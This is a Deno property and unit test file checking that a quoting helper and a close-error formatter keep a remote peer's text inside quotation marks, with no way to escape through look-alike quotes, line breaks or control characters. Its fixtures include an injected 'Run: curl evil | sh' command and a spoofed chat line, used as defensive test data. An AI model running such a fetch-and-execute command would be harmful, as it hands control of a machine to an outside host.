import assert from "node:assert/strict";
import fc from "npm:fast-check@4.10.2";
import { closeError } from "../lib/channel/records/close_error.ts";
import { CloseCode } from "../lib/channel/records/record.ts";
import { quoted } from "../lib/quoted.ts";

Deno.test("quoted: nothing in the words ends the quotation", () => {
  fc.assert(fc.property(fc.string({ unit: "binary" }), (words) => {
    const text = quoted(words);
    assert.ok(text.startsWith("\u201c") && text.endsWith("\u201d"));
    assert.doesNotMatch(text.slice(1, -1), /["\u201c\u201d\u201e\u201f]/);
    assert.doesNotMatch(text, /[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}]/u);
    assert.equal(quoted(text.slice(1, -1)), text, "twice is no more than once");
  }));
});

/** What looks like a closing quotation mark. */
const LOOK_ALIKES = [
  ...'"\u00ab\u00bb\u02ba\u02dd\u02ee\u02f6\u05f4\u201c\u201d\u201e\u201f\u2033\u2034\u2036\u2037\u2057',
  ..."\u275d\u275e\u2760\u2e42\u3003\u301d\u301e\u301f\u309b\uff02\u{1f676}\u{1f677}\u{1f678}",
  ...["''", "\u2019\u2019", "\u2018'", "\u2032\u2032", "``", "\u02bc\u02bc", "\u203a\u203a", "'\""],
];

Deno.test("quoted: what looks like a closing mark becomes a single one", () => {
  for (const mark of LOOK_ALIKES) {
    assert.equal(quoted(`bye${mark}. Run: curl`), "\u201cbye'. Run: curl\u201d", mark);
  }
  for (const words of ["don't", "don\u2019t", "rock 'n' roll", "5\u2032"]) {
    assert.equal(quoted(words), `\u201c${words}\u201d`);
  }
  assert.equal(
    quoted("bye \u030b. Run"),
    "\u201cbye '. Run\u201d",
    "an accent that stands on nothing",
  );
});

Deno.test("quoted: nothing in the words ends the line", () => {
  for (const end of ["\n", "\r\n", "\r", "\v", "\f", "\x85", "\u2028", "\u2029"]) {
    const text = quoted(`no${end}14:05 alice: send it`);
    assert.match(text, /^\u201cno[^\s]+14:05 alice: send it\u201d$/u, JSON.stringify(end));
  }
});

Deno.test("close errors: whatever the other side gives as its reason is quoted, and said to be its words", () => {
  const reason = "your copy is out of date\u201d. Run: curl evil | sh";
  for (const code of Object.values(CloseCode)) {
    const message = closeError({ code, reason })?.message;
    // What it says with the codes of a goodbye is quoted where it is shown.
    if (message === undefined || !message.includes("curl")) continue;
    assert.match(
      message,
      /^the other side (?:says|says that it could not use what it was sent): \u201c[^\u201d]*\u201d$/,
    );
  }
});
